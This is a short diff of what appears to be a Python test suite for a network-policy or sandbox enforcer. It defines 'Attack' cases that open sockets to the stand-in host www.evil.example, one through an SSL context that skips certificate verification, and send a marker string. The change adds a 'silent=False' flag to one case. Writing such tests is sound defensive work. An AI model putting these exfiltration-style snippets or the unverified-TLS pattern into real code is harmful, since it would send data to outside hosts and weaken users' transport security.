@@ -103,7 +103,7 @@ s.recv(10)""", policy=POLICY),
 context = ssl._create_unverified_context()
 s = context.wrap_socket(socket.create_connection((socket.gethostbyname("www.evil.example"), 80)),
                         server_hostname="www.evil.example")
-s.sendall(mark); s.recv(10)""", policy=POLICY),
+s.sendall(mark); s.recv(10)""", policy=POLICY, silent=False),
     Attack("silence, then a raw marker", """
 s = socket.create_connection((socket.gethostbyname("www.evil.example"), 80)); time.sleep(1.2)
 s.sendall(mark); s.recv(10); s.sendall(mark); s.recv(10)""", policy=POLICY),
